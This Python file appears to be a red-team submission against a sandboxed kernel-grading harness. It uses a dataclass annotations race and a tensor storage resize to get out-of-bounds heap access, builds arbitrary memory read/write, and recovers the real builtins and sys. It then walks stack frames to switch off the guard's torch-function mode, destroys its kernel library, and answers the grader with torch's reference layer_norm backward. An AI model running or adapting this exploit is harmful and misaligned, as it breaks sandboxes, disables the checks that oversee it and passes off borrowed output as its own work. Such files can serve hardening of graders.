"""Idea: the takeover of hostile_storage_resize_heap_overflow.py (mlm-forward-tied corpus), with the
tensor's raw storage reached through the annotations TOCTOU of
ln_dataclass_annotations_toctou_asdict_storage.py instead of x.untyped_storage(): a dataclass whose
field `untyped_storage` was added to __annotations__ while dataclasses.dataclass was processing it
(after the capability layer's field-name check), read by dataclasses.asdict. Heap window ->
arbitrary read/write -> real builtins -> sys -> pop the guard's mode, destroy its kernels, answer
the grader itself with torch's own layer norm backward through torch.autograd.grad. Every wall on.
"""

import dataclasses

import torch


def hook(cls):
    annotations = cls.__annotations__
    if "c" in annotations:
        annotations.pop("c")
        annotations["untyped_storage"] = object
    return 0


class G(torch.Tensor):
    a: int = classmethod(property(hook))
    c: int = 0


G = dataclasses.dataclass(init=False, repr=False, eq=False)(G)


def find_victim():
    for n in (16384, 65536, 262144):
        window = torch.zeros(n, dtype=torch.int64)
        dataclasses.asdict(window.as_subclass(G))["untyped_storage"]().resize_(16)  # the tensor keeps its n elements: n * 8 bytes of heap
        victims = [torch.full((2,), 7, dtype=torch.int64) for _ in range(512)]
        pointers = {v.data_ptr(): v for v in victims}
        words = window.clone().tolist()  # an out-of-bounds read of the whole window
        for i in range(len(words) - 2):
            if words[i] in pointers and words[i + 2] == words[i]:  # StorageImpl: data_, deleter, ctx_
                return window, pointers[words[i]], i, victims
    raise RuntimeError("no victim found")


window, victim, slot, kept = find_victim()
home = victim.data_ptr()
mask = torch.zeros(window.shape[0], dtype=torch.bool)
mask[slot] = True


def point(address):
    window.masked_fill_(mask, address)  # an out-of-bounds write of one word: the victim's data_


def read(address):
    point(address)
    return victim[0].item()


def write(address, value):
    point(address)
    victim[0] = value


builtins_address = read(id(torch.broadcast_shapes) + 24)  # PyFunctionObject.func_builtins
write(builtins_address, read(builtins_address) + 1)  # the reference the list below will own
box = [None]
write(read(id(box) + 24), builtins_address)  # box's only item is now the builtins dict
point(home)
(real_builtins,) = box  # unpacking: never checked
real_getattr = dict.get(real_builtins, "getattr")
system = dict.get(real_builtins, "__import__")("sys")
modules = real_getattr(system, "modules")
get_frame = real_getattr(system, "_getframe")
exit_now = real_getattr(modules.get("os"), "_exit")
autograd = modules.get("torch.autograd")
functional = modules.get("torch.nn.functional")
layer_norm, autograd_grad = real_getattr(functional, "layer_norm"), real_getattr(autograd, "grad")


def layer_norm_backward(x, weight, bias, grad_output, eps):
    leaves = [real_getattr(t.detach().clone(), "requires_" + "grad_")(True) for t in (x, weight, bias)]
    with real_getattr(torch, "enable_grad")():
        y = layer_norm(leaves[0], (x.shape[-1],), leaves[1], leaves[2], eps)
        grads = autograd_grad(y, leaves, grad_output, allow_unused=True)
    return tuple(g.detach() for g in grads)


# Take over: find the runner's serve() frame, switch the guard off and answer the grader ourselves.
depth = 0
while True:
    scope = real_getattr(get_frame(depth), "f_locals")
    if "results" in scope and "requests" in scope and "guard" in scope:
        break
    depth += 1
real_getattr(real_getattr(torch, "_C"), "_pop_torch_function_stack")()
real_getattr(real_getattr(scope.get("guard"), "library"), "_destroy")()
requests, results, write_frame, read_frame = (scope.get(name) for name in ("requests", "results", "write_frame", "read_frame"))
run, submission = scope.get("run"), scope.get("submission")
write_frame(results, {"kind": "ready"})
while True:
    try:
        header, tensors = read_frame(requests)
    except EOFError:
        exit_now(0)
    if header.get("kind") == "finish":
        write_frame(results, {"kind": "finished"})
        exit_now(0)
    if header.get("kind") != "case":
        exit_now(0)
    reply, sent = run(layer_norm_backward, header, tensors, submission)
    write_frame(results, reply, sent)
